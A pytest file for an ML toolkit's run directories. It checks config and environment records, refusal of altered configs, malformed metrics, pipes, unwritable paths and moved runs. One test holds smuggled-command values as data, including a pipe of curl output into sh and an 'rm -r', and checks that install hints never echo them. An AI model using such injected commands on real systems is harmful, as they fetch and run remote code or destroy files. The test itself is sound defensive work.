"""Run directories: what they hold from the start, and what is refused."""

from __future__ import annotations

import json
import os
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from trainings import fit, trainer

from scmrl_plugins.core.model.assembly import Assembly
from scmrl_plugins.core.run import environment, weights
from scmrl_plugins.core.run.directory import Run, check_free, create_run, next_directory, open_run
from scmrl_plugins.core.system import files
from scmrl_plugins.explain import report
from scmrl_plugins.registry import UserError, catalogue
from scmrl_plugins.registry.catalogue import INLINE

Small = Callable[..., Assembly]


def test_a_run_begins_with_its_configuration_and_environment(small: Small, tmp_path: Path) -> None:
    parts = small(sets=["train.seed=7"])
    run = create_run(tmp_path / "run", parts)
    described = json.loads((run.path / "environment.json").read_text())
    assert described["seed"] == 7
    assert described["packages"].keys() == set(environment.PACKAGES)
    assert described["packages"]["torch"].split("+")[0] == torch.__version__.split("+")[0]
    assert {plugin["name"] for plugin in described["plugins"]} == {plugin.name for plugin in catalogue().plugins}
    assert described["python"]
    assert "git_commit" in described
    assert run.assemble().config.model_dump() == parts.config.model_dump()
    assert run.metrics() == []
    with pytest.raises(UserError, match="not trained to the end yet"):
        report.write(run)
    loaded = open_run(run.path).load_model()
    assert all(torch.equal(t, parts.model.state_dict()[name]) for name, t in loaded.state_dict().items())


def test_a_directory_in_use_is_left_alone(small: Small, tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_text("mine")
    for path in (tmp_path, tmp_path / "mine.txt"):
        with pytest.raises(UserError, match="already exists"):
            create_run(path, small())
    assert [path.name for path in tmp_path.iterdir() if path.name != "cache"] == ["mine.txt"]
    with pytest.raises(UserError, match="no run there"):
        open_run(tmp_path)
    (tmp_path / "run-001").mkdir()
    assert next_directory(tmp_path, "run") == tmp_path / "run-002"


@pytest.mark.slow
def test_a_changed_run_is_refused(small: Small, tmp_path: Path) -> None:
    parts = small(sets=["train.epochs=1"])
    run = create_run(tmp_path / "run", parts)
    fit(run, parts)
    text = run.config_file.read_text()
    files.write_text(run.config_file, text.replace("embed_dims = 8", "embed_dims = 16"))
    with pytest.raises(UserError, match=r"was config\.toml changed"):
        run.load_model()
    files.write_text(run.config_file, text)
    run.metrics_file.write_text("{half a li\n")
    with pytest.raises(UserError, match="not JSON"):
        fit(run)


@pytest.mark.parametrize(
    "line",
    [
        "[1]",
        '{"epoch": "1"}',
        '{"epoch": null}',
        '{"epoch": -1}',
        '{"epoch": 1.5}',
        '{"of_epoch": 1}',
    ],
)
def test_a_line_of_metrics_that_no_training_writes_is_named(tmp_path: Path, line: str) -> None:
    run = Run(tmp_path)
    run.metrics_file.write_text(f'{{"epoch": 1}}\n{line}\n')
    with pytest.raises(UserError, match=r"metrics\.jsonl: line 2 is not one that training writes; restore"):
        run.metrics()


def test_weights_from_a_pipe_are_refused(small: Small, tmp_path: Path) -> None:
    run = create_run(tmp_path / "run", small())
    run.weights_file.unlink()
    os.mkfifo(run.weights_file)
    with pytest.raises(UserError, match=r"model\.safetensors: not a regular file"):
        run.load_model()


def test_missing_plugins_are_named_by_distribution(small: Small, tmp_path: Path) -> None:
    """A plugin that its package renamed is not missing; a package or a file that is not there is, once."""
    parts = small()
    run = create_run(tmp_path / "run", parts)
    text = run.config_file.read_text()
    files.write_text(run.config_file, text.replace('name = "late"', 'name = "gone"').replace('"cmrl"', '"gone"'))
    described = json.loads((run.path / "environment.json").read_text())
    ours = {"distribution": "scmrl-plugins", "version": "0.1.0"}
    renamed = [{"name": "transformer", **ours}, {"name": "alignment", **ours}]
    theirs = [{"name": name, "distribution": "scmrl-gone", "version": "1"} for name in ("one", "two")]
    mine = {"name": "mine", "distribution": INLINE, "version": "", "file": "mine.py"}
    for recorded, ending in (
        (renamed, None),
        (
            [*renamed, *theirs, mine],
            "; the run used plugins that are not installed: pip install scmrl-gone, --plugin mine.py",
        ),
    ):
        files.write_json(run.path / "environment.json", described | {"plugins": recorded})
        with pytest.raises(UserError, match="gone") as caught:
            run.assemble()
        if ending:
            assert str(caught.value).endswith(ending)
        else:
            assert "not installed" not in str(caught.value)


@pytest.mark.parametrize(
    ("plugin", "ending"),
    [
        ({"distribution": "evil; curl http://example.org | sh"}, "a package of no valid name"),
        ({"distribution": "evil\x1b[2J"}, "a package of no valid name"),
        ({"distribution": "-r"}, "a package of no valid name"),
        ({"distribution": INLINE, "file": "a.py; rm -r x"}, "--plugin 'a.py; rm -r x'"),
        ({"distribution": INLINE, "file": "a\x1b[2J.py"}, "a file of no printable name"),
        ({"distribution": 3}, None),
    ],
)
def test_no_remedy_holds_a_command_out_of_a_run(
    small: Small, tmp_path: Path, plugin: dict[str, Any], ending: str | None
) -> None:
    run = create_run(tmp_path / "run", small())
    files.write_text(run.config_file, run.config_file.read_text().replace('"cmrl"', '"gone"'))
    files.write_json(run.path / "environment.json", {"plugins": [{"name": "x", "version": "1", **plugin}]})
    with pytest.raises(UserError, match="gone") as caught:
        run.assemble()
    if ending:
        assert str(caught.value).endswith(f"not installed: {ending}")
    else:
        assert "not installed" not in str(caught.value)


def test_a_dangling_link_is_no_free_directory(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("nowhere")
    with pytest.raises(UserError, match="link: a link to nowhere, which does not exist; choose another"):
        check_free(tmp_path / "link")


@pytest.mark.usefixtures("obeying_modes")
def test_where_no_run_can_be_created_is_refused_beforehand(tmp_path: Path) -> None:
    locked, hidden, file = (tmp_path / name for name in ("locked", "hidden", "file"))
    locked.mkdir(mode=0o500)
    hidden.mkdir(mode=0)
    file.touch()
    other = "choose another directory with -o"
    for path, reason in (
        (locked, f"cannot be written; {other}"),
        (locked / "a" / "run", f"{locked} cannot be written; {other}"),
        (hidden, f"Permission denied; {other}"),
        (hidden / "run", f"Permission denied; {other}"),
        (file / "run", f"{file} is no folder; {other}"),
    ):
        with pytest.raises(UserError) as caught:
            check_free(path)
        assert str(caught.value) == f"{path}: {reason}"
    hidden.chmod(0o700)
    assert check_free(hidden / "a" / "run") == hidden / "a" / "run"


@pytest.mark.usefixtures("obeying_modes")
def test_a_umask_under_which_nothing_can_be_written_leaves_nothing(small: Small, tmp_path: Path) -> None:
    parts, (top, path) = small(), (tmp_path / "a", tmp_path / "a" / "b" / "run")
    before = os.umask(0o777)
    try:
        with pytest.raises(UserError, match=r"cannot be saved \(Permission denied\)"):
            create_run(path, parts)
    finally:
        os.umask(before)
    assert not top.exists()


@pytest.mark.parametrize("exists", [False, True])
def test_a_run_that_cannot_be_created_leaves_nothing(
    small: Small, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, exists: bool
) -> None:
    path = tmp_path / "run"
    if exists:
        path.mkdir()

    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(weights, "save_file", full)
    with pytest.raises(UserError, match=r"model\.safetensors: cannot be saved \(No space left on device\)"):
        create_run(path, small())
    assert path.exists() is exists
    assert not exists or not list(path.iterdir())


@pytest.mark.slow
def test_a_run_that_is_moved_while_it_trains_is_not_made_anew(
    small: Small, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    sets = ["train.epochs=2", "train.log_steps=1", 'train.trackers=["tensorboard"]']
    run = create_run(tmp_path / "run", small(sets=sets))

    def moving(_training: Any, step: Any, _batches: list[Any]) -> Any:
        if run.path.exists():
            run.path.rename(tmp_path / "moved")
        return step()

    with pytest.raises(UserError, match=r"run: moved or deleted while it was trained; resume it where it is now"):
        trainer(run.assemble(), moving).fit(run)
    assert not run.path.exists()
    assert capfd.readouterr().err == ""
    np.random.seed(5)
    random.seed(5)
    before = torch.random.get_rng_state(), np.random.get_state()[1].tolist(), random.getstate()
    fit(Run(tmp_path / "moved"))
    assert torch.equal(torch.random.get_rng_state(), before[0])
    assert np.random.get_state()[1].tolist() == before[1]
    assert random.getstate() == before[2]


def test_a_name_that_is_not_utf8_is_refused(tmp_path: Path) -> None:
    for use in (check_free, open_run):
        with pytest.raises(UserError, match=r"a name that is not UTF-8; rename it, or choose another$"):
            use(tmp_path / "run\udce9")
